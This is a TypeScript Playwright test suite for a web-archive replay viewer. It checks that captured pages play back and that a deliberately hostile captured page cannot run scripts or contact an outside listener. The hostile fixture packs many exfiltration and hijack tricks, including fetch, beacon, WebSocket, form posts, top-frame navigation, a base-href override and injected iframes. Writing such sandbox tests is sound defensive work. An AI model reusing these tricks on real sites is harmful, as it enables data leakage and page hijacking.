// Playback: a captured page as it was, and a hostile one that gets nothing and nowhere.
import { rmSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import type { AddressInfo } from 'node:net';
import { dirname } from 'node:path';
import { test as plain, type Page, type Response } from '@playwright/test';
import { capturesOf, observatoryOf, warcOf } from './archive';
import { expect, expectAccessible, expectNoSideways, languages, serve, shoot, test, type Served } from './observatory';

const picture = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg==', 'base64');

function good(): string {
  return (
    '<!doctype html><html><head><meta charset="utf-8"><title>Tide at the pier</title>' +
    '<link rel="stylesheet" href="/style.css"></head><body><h1>Tide at the pier 潮水</h1>' +
    '<p>The water rose over the pier in the evening, and the harbour office closed the road along the coast until the morning.</p>' +
    '<p>Nobody was hurt, the harbour office said on Tuesday; the road will be open again when the sea wall has been looked at.</p>' +
    '<img id="there" alt="pier" src="/pier.png"><p><a href="/other.html">Not captured</a></p></body></html>'
  );
}

/** A page that tries all it can. `outside` is an address where somebody listens. */
function hostile(outside: string): string {
  const tries = `
    document.getElementById('canary').textContent = 'ran';
    fetch('/search.json'); fetch('${outside}/fetch'); new Image().src = '${outside}/image';
    try { parent.document.title = 'taken'; } catch {}
    try { top.location = '${outside}/top'; } catch {}
    window.open('${outside}/open'); window.open('/search');
    navigator.sendBeacon('${outside}/beacon'); new WebSocket('${outside.replace('http', 'ws')}/socket');
    document.forms[0].submit();
    navigator.serviceWorker.controller.postMessage({ msg_type: 'removeColl' });`;
  return (
    `<!doctype html><html onclick="${tries.replaceAll('"', "'")}"><head><meta charset="utf-8"><title>Storm warning</title>` +
    `<base href="${outside}/base/"><meta http-equiv="refresh" content="1; url=${outside}/refresh">` +
    `<link rel="preconnect" href="${outside}"><link rel="dns-prefetch" href="${outside}"><link rel="prefetch" href="${outside}/prefetch">` +
    `<link data-x=" rel=stylesheet " rel="&#112;reconnect" href="${outside}"><LINK/rel=preload as=image href="${outside}/preload">` +
    `<link rel="stylesheet" href="${outside}/sheet.css"><style>@import url("${outside}/import.css"); body { background: url("${outside}/back.png") }
      @font-face { font-family: x; src: url("${outside}/font.woff2") } h1 { font-family: x }</style>` +
    `<script>${tries}</script><script src="${outside}/script.js"></script><script type="module">${tries}</script>` +
    `<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${outside}/speculation"]}]}</script></head>` +
    `<body onload="${tries.replaceAll('"', "'")}"><h1>Storm warning for the whole coast</h1><p id="canary">untouched</p>` +
    '<p>The harbour office warned of a storm on Tuesday evening and asked everybody to stay away from the sea wall until the morning.</p>' +
    '<p>Ships were to leave the pier before noon, the office said; the ferry to the islands would not go before Thursday morning.</p>' +
    `<img src="${outside}/a.png" srcset="${outside}/b.png 2x" onerror="${tries.replaceAll('"', "'")}"><img src="/search.json"><img src="/replay/w/api/index">` +
    `<svg onload="document.getElementById('canary').textContent='svg'"><image href="${outside}/svg.png"/><a xlink:href="${outside}/svga"><text y="20" id="svglink">a</text></a></svg>` +
    `<iframe src="${outside}/frame"></iframe><iframe src="/search"></iframe><iframe srcdoc="<script>parent.document.getElementById('canary').textContent='srcdoc'</script><img src=${outside}/srcdoc.png>"></iframe>` +
    `<iframe src="javascript:parent.document.getElementById('canary').textContent='js'"></iframe><iframe src="data:text/html,<img src=${outside}/data.png>"></iframe>` +
    `<object data="${outside}/object"></object><video poster="${outside}/poster" src="${outside}/video"></video><audio src="${outside}/audio" autoplay></audio>` +
    `<form method="post" action="${outside}/form"><input name="a" value="1"><button id="send">send</button></form>` +
    `<form method="post" action="/jobs.json"><button id="job">job</button></form>` +
    `<a id="out" href="${outside}/link" ping="${outside}/ping">out</a> <a id="top" target="_top" href="${outside}/toplink">top</a>` +
    `<a id="blank" target="_blank" href="${outside}/blank">blank</a> <a id="js" href="javascript:document.getElementById('canary').textContent='link'">js</a><embed src="${outside}/embed"></body></html>`
  );
}

/** Whoever connects there is counted. */
async function listen(): Promise<{ address: string; heard: string[]; server: Server }> {
  const heard: string[] = [];
  const server = createServer((socket) => {
    heard.push('connected');
    socket.on('data', (bytes) => heard.push(bytes.toString().split('\r\n')[0] ?? ''));
    socket.on('error', () => undefined);
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  return { address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard, server };
}

interface Capture {
  id: string;
  url: string;
}

/** The article whose text matches, and the capture that it was read from. */
async function found(page: Page, served: Served, words: string): Promise<{ article: string; capture: Capture }> {
  const hits = (await (await page.request.get(`${served.address}/search.json?kind=article&q=${encodeURIComponent(words)}`)).json()) as { hits: { id: string }[] };
  const article = hits.hits[0]?.id ?? 'nothing';
  const known = (await (await page.request.get(`${served.address}/article/${article}.json`)).json()) as { captures: Capture[] };
  return { article, capture: known.captures[0] as Capture };
}

/** The page that asked; empty for a page's own address, and for what the worker asks. */
function askerOf(answer: Response): string {
  const asked = answer.request();
  if (asked.isNavigationRequest() || asked.serviceWorker()) return '';
  return asked.frame().url();
}

for (const locale of languages) {
  test.describe(locale, () => {
    test.use({ locale });

    test('a captured page is played back from its article', async ({ watched: page, demo }) => {
      const { article } = await found(page, demo, '四号码头');
      await page.goto(`${demo.address}/article/${article}`);
      await page.getByRole('link', { name: locale === 'en' ? 'Play it back' : '回放' }).first().click();
      await expect(page).toHaveURL(/\/replay\/\?source=/);
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(locale === 'en' ? 'Played back from the archive' : '存档回放');
      await expect(page.getByText(locale === 'en' ? 'Its scripts do not run' : '其中的脚本不会运行')).toBeVisible();
      await expect(page.frameLocator('iframe').getByText('四号码头').first()).toBeVisible();
      await expectNoSideways(page);
      await shoot(page, `replay-${locale}`);
      await page.getByRole('link', { name: locale === 'en' ? 'Back to its receipt' : '返回存档凭据' }).click();
      await expect(page).toHaveURL(/\/capture\//);
    });
  });
}

test('what is no evidence is told', async ({ watched: page, demo }) => {
  await page.goto(`${demo.address}/replay/?source=https://elsewhere.example/x.wacz&url=https://elsewhere.example/`);
  await expect(page.getByRole('status')).toContainText('does not say what to play back');
  await page.goto(`${demo.address}/replay/?source=/capture/0000000000000000.wacz&url=http://a.example/`);
  await expect(page.getByRole('status')).toContainText('404');
  await expectAccessible(page);
});

plain('a captured page comes with its parts, and says what was not captured', async ({ page }) => {
  const folder = observatoryOf({
    'pages.warc': warcOf([
      { url: 'http://harbour.example/tide.html', type: 'text/html', body: good() },
      { url: 'http://harbour.example/style.css', type: 'text/css', body: 'h1 { color: rgb(1, 2, 3); }' },
      { url: 'http://harbour.example/pier.png', type: 'image/png', body: picture },
    ]),
  });
  const served = await serve(folder);
  try {
    const { capture } = await found(page, served, 'pier');
    await page.goto(`${served.address}/replay/?source=/capture/${capture.id}.wacz&url=${encodeURIComponent(capture.url)}&ts=20240702093000`);
    const frame = page.frameLocator('iframe');
    await expect(frame.getByRole('heading', { name: 'Tide at the pier 潮水' })).toBeVisible();
    await frame.getByRole('link', { name: 'Not captured' }).click();
    await expect(frame.getByText('This address is not among the evidence.')).toBeVisible();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Played back from the archive');
  } finally {
    await served.end();
    rmSync(dirname(folder), { recursive: true, force: true });
  }
});

plain('a hostile page gets nothing and nowhere', async ({ page, context }) => {
  const outside = await listen();
  const folder = observatoryOf({
    'pages.warc': warcOf([{ url: 'http://storm.example/warning.html', type: 'text/html', body: hostile(outside.address) }]),
  });
  const served = await serve(folder);
  // What the policy refuses never leaves the browser and has no answer; what the worker answers is from the evidence.
  const answered: string[] = [];
  context.on('response', (answer) => {
    const url = answer.url();
    const captured = askerOf(answer).includes('/replay/w/');
    if (url.startsWith(outside.address) || (captured && !answer.fromServiceWorker())) answered.push(url);
  });
  try {
    const capture = capturesOf(folder).map((one) => ({ id: one.capture, url: one.capture_url }))[0] as Capture;
    await page.goto(`${served.address}/replay/?source=/capture/${capture.id}.wacz&url=${encodeURIComponent(capture.url)}&ts=20240702093000`);
    const frame = page.frameLocator('iframe');
    await expect(frame.getByRole('heading', { name: 'Storm warning for the whole coast' })).toBeVisible();
    const start = page.url();
    for (const id of ['send', 'job', 'js']) {
      await frame.locator(`#${id}`).click({ force: true, noWaitAfter: true, timeout: 2000 });
    }
    await page.waitForTimeout(1500);
    await expect(frame.locator('#canary')).toHaveText('untouched');
    // A link leads somewhere in the frame at the most, where nothing is but the evidence.
    const back = `${served.address}/replay/?source=/capture/${capture.id}.wacz&url=${encodeURIComponent(capture.url)}&ts=20240702093000`;
    for (const id of ['blank', 'top', 'svglink', 'out']) {
      await page.goto(back);
      await frame.locator(`#${id}`).click({ force: true, noWaitAfter: true, timeout: 5000 });
      await page.waitForTimeout(300);
    }
    expect(page.url()).toBe(start);
    expect(await page.title()).toContain('Played back');
    expect(context.pages()).toHaveLength(1);

    // Opened by itself, it is no freer.
    const alone = page.frames().find((one) => one.url().includes('/replay/w/'))?.url() ?? '';
    expect(alone).toContain('/replay/w/');
    const [name] = alone.slice(alone.indexOf('/replay/w/') + 10).split('/');
    await page.goto(`${served.address}/replay/?source=/capture/${capture.id}.wacz&url=${encodeURIComponent(capture.url)}`);
    await expect(frame.locator('#canary')).toHaveText('untouched');
    const other = await context.newPage();
    await other.goto(`${served.address}/replay/w/${name}/20240702093000mp_/http://storm.example/warning.html`);
    await expect(other.locator('#canary')).toHaveText('untouched');
    await other.waitForTimeout(1500);
    await expect(other.locator('#canary')).toHaveText('untouched');
    const policy = (await other.reload())?.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("script-src 'none'");
    expect(policy).toContain('sandbox allow-same-origin');

    expect(outside.heard).toEqual([]);
    expect(answered).toEqual([]);
  } finally {
    outside.server.close();
    await served.end();
    rmSync(dirname(folder), { recursive: true, force: true });
  }
});
